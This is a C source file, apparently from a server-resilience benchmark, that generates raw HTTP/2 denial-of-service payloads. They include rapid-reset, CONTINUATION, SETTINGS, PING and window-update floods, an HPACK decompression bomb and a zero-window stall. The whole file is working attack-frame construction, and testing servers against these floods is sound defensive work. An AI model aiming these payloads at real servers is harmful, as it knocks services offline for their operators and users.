#include "flood_script.h"
#include "h2_frame.h"
#include "net.h"

#define SCRIPT_BYTES_MAX (2u * 1024 * 1024)
#define PRIORITY_UPDATE ((enum h2_type)16)
#define UNKNOWN ((enum h2_type)77)
#define BOMB_VALUE_BYTES 3968
#define BOMB_COPIES 16000

/* A request for / without anything that the table would have to know. */
static const uint8_t get[] = "\x82\x86\x84\x01\x0a"
                             "bench.test";
static const uint8_t post[] = "\x83\x86\x84\x01\x0a"
                              "bench.test";
#define BLOCK_BYTES (sizeof get - 1)

static uint8_t *put_request(uint8_t *to, uint32_t i)
{
    to = h2_put_head(to, BLOCK_BYTES, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, 1 + 2 * i);
    return h2_put_bytes(to, get, BLOCK_BYTES);
}

static uint8_t *put_upload(uint8_t *to)
{
    to = h2_put_head(to, BLOCK_BYTES, H2_HEADERS, H2_END_HEADERS, 1);
    return h2_put_bytes(to, post, BLOCK_BYTES);
}

static uint8_t *put_open_block(uint8_t *to)
{
    return h2_put_bytes(h2_put_head(to, 1, H2_HEADERS, H2_END_STREAM, 1), "\x82", 1);
}

static uint8_t *put_filled(uint8_t *to, int byte, size_t length)
{
    memset(to, byte, length);
    return to + length;
}

static uint8_t *put_reset(uint8_t *to, uint32_t i)
{
    to = put_request(to, i);
    return h2_put_32(h2_put_head(to, 4, H2_RST_STREAM, 0, 1 + 2 * i), 8); /* CANCEL */
}

static uint8_t *put_continuation(uint8_t *to, uint32_t i)
{
    (void)i;
    return h2_put_bytes(h2_put_head(to, 1, H2_CONTINUATION, 0, 1), "\x86", 1);
}

static uint8_t *put_large_continuation(uint8_t *to, uint32_t i)
{
    (void)i;
    to = h2_put_head(to, H2_PAYLOAD_BYTES_MAX, H2_CONTINUATION, 0, 1);
    return put_filled(to, 0x86, H2_PAYLOAD_BYTES_MAX);
}

/* A field of nearly 4 KiB goes into the table. */
static uint8_t *put_bomb(uint8_t *to)
{
    const uint32_t more = BOMB_VALUE_BYTES - 127; /* RFC 7541 section 5.1 */
    const uint8_t field[] = {
        0x40, 1, 'x', 0x7f, (uint8_t)(more % 128 | 128), (uint8_t)(more / 128)};
    to = h2_put_head(to, BLOCK_BYTES + sizeof field + BOMB_VALUE_BYTES, H2_HEADERS,
                     H2_END_HEADERS | H2_END_STREAM, 1);
    to = h2_put_bytes(to, get, BLOCK_BYTES);
    to = h2_put_bytes(to, field, sizeof field);
    return put_filled(to, 'y', BOMB_VALUE_BYTES);
}

/* Each octet of it is another copy of that field. */
static uint8_t *put_explosion(uint8_t *to, uint32_t i)
{
    to = h2_put_head(to, BLOCK_BYTES + BOMB_COPIES, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM,
                     3 + 2 * i);
    to = h2_put_bytes(to, get, BLOCK_BYTES);
    return put_filled(to, 0x80 | 62, BOMB_COPIES);
}

static uint8_t *put_settings(uint8_t *to, uint32_t i)
{
    (void)i;
    return h2_put_head(to, 0, H2_SETTINGS, 0, 0);
}

static uint8_t *put_full_settings(uint8_t *to, uint32_t i)
{
    const size_t count = H2_PAYLOAD_BYTES_MAX / 6;
    (void)i;
    to = h2_put_head(to, count * 6, H2_SETTINGS, 0, 0);
    for (size_t k = 0; k < count; k++) {
        to = h2_put_setting(to, H2_HEADER_TABLE_SIZE, k % 2 ? 4096 : 0);
    }
    return to;
}

static uint8_t *put_ping(uint8_t *to, uint32_t i)
{
    (void)i;
    return put_filled(h2_put_head(to, 8, H2_PING, 0, 0), 0, 8);
}

static uint8_t *put_empty_data(uint8_t *to, uint32_t i)
{
    (void)i;
    return h2_put_head(to, 0, H2_DATA, 0, 1);
}

static uint8_t *put_small_data(uint8_t *to, uint32_t i)
{
    (void)i;
    return h2_put_bytes(h2_put_head(to, 1, H2_DATA, 0, 1), "x", 1);
}

static uint8_t *put_window_update(uint8_t *to, uint32_t i)
{
    (void)i;
    return h2_put_window_update(to, 0, 1);
}

static uint8_t *put_priority(uint8_t *to, uint32_t i)
{
    (void)i;
    return put_filled(h2_put_head(to, 5, H2_PRIORITY, 0, 1), 0, 5);
}

static uint8_t *put_priority_update(uint8_t *to, uint32_t i)
{
    to = h2_put_head(to, 7, PRIORITY_UPDATE, 0, 0);
    return h2_put_bytes(h2_put_32(to, 1 + 2 * i), "u=1", 3);
}

static uint8_t *put_unknown(uint8_t *to, uint32_t i)
{
    (void)i;
    return h2_put_head(to, 0, UNKNOWN, 0, 0);
}

const struct flood_script flood_scripts[] = {
    {"resets", "resets", NULL, put_reset, 210, false, 0},
    {"refused_streams", "refused_streams", NULL, put_request, 235, false, 0},
    {"continuations", "continuations", put_open_block, put_continuation, 20, false, 0},
    {"head", "head", put_open_block, put_large_continuation, 2, false, 0},
    {"hpack_bomb", "hpack_bomb", put_bomb, put_explosion, 1, false, 0},
    {"settings", "settings", NULL, put_settings, 60, false, 0},
    {"settings_full", "settings", NULL, put_full_settings, 1, false, 0},
    {"pings", "pings", NULL, put_ping, 210, false, 0},
    {"empty_frames", "empty_frames", put_upload, put_empty_data, 210, false, 0},
    {"small_data", "small_data", put_upload, put_small_data, 10100, false, 0},
    {"window_updates", "window_updates", NULL, put_window_update, 1010, false, 0},
    {"priorities", "priorities", NULL, put_priority, 1010, false, 0},
    {"priority_updates", "priorities", NULL, put_priority_update, 1010, false, 0},
    {"unknown_frames", "unknown_frames", NULL, put_unknown, 1010, false, 0},
    /* As many requests as there may be, whose answers are given no window; then it leaves. */
    {"stalls", NULL, NULL, put_request, 128, true, 1},
};
const size_t flood_scripts_count = sizeof flood_scripts / sizeof flood_scripts[0];

/* What is said at a door, where nobody listens. */
static const struct flood_script knock = {.name = FLOOD_KNOCK};

const struct flood_script *flood_script_find(const char *name)
{
    for (size_t i = 0; i < flood_scripts_count; i++) {
        if (strcmp(flood_scripts[i].name, name) == 0) {
            return &flood_scripts[i];
        }
    }
    return strcmp(knock.name, name) == 0 ? &knock : NULL;
}

static uint8_t *put_opening(uint8_t *to, const struct flood_script *script)
{
    to = h2_put_bytes(to, H2_PREFACE, H2_PREFACE_BYTES);
    if (!script->windowless) {
        return h2_put_head(to, 0, H2_SETTINGS, 0, 0);
    }
    to = h2_put_head(to, 6, H2_SETTINGS, 0, 0);
    return h2_put_setting(to, H2_INITIAL_WINDOW_SIZE, 0);
}

uint8_t *flood_script_make(const struct flood_script *script, size_t *length)
{
    uint8_t *bytes = bench_allocate(1, SCRIPT_BYTES_MAX);
    uint8_t *to = put_opening(bytes, script);
    if (script->begin != NULL) {
        to = script->begin(to);
    }
    for (uint32_t i = 0; i < script->count; i++) {
        to = script->add(to, i);
    }
    *length = (size_t)(to - bytes);
    return bytes;
}
